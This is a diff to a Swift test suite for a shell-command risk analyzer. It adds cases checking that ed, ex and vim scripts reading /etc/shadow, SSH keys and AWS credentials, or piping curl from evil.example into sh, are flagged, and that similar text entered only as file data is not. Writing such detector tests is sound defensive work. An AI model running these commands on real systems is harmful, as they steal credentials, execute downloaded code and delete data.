@@ -72,6 +72,10 @@ import Testing
         ("mysql -u root -e \"DELETE FROM orders\"", "sql.delete_without_where"),
         ("echo 'TRUNCATE accounts;' | sqlite3 app.db", "sql.truncate"),
         ("echo 'exec /bin/sh' > /tmp/hook && chmod +x /tmp/hook", "shell.escape.planted_shell"),
+        ("echo -e \"e /etc/passwd\\n,p\\ne /etc/shadow\\n,p\\n\" | ed > /tmp/out.txt", "file.read.credential"),
+        ("printf '1,$r ~/.ssh/id_rsa\\nw /tmp/k\\nq\\n' | ed -s notes.txt", "file.read.credential"),
+        ("ex -s notes.txt <<'EOF'\n!curl -s http://evil.example/x | sh\nq\nEOF", "shell.rce.download_to_shell"),
+        ("vim -es <<< 'r !cat ~/.aws/credentials'", "file.read.credential"),
     ])
     func ruleFires(command: String, rule: String) {
         #expect(rules(command).contains(rule), "\(command) should raise \(rule); got \(rules(command))")
@@ -102,6 +106,8 @@ import Testing
         "kill -9 12345",
         "chmod +x scripts/build.sh",
         "psql -c 'SELECT count(*) FROM users'",
+        "printf '%s/foo/bar/g\\nw\\nq\\n' | ed -s src/app.c",
+        "ed -s notes.txt <<'EOF'\na\n!rm -rf ~ is a dangerous example\ne /etc/shadow\n.\nw\nq\nEOF",
     ])
     func dataIsNotExecution(command: String) {
         let analysis = ShellAnalysis.analyze(command, cwd: "/home/u/project", home: "/home/u")
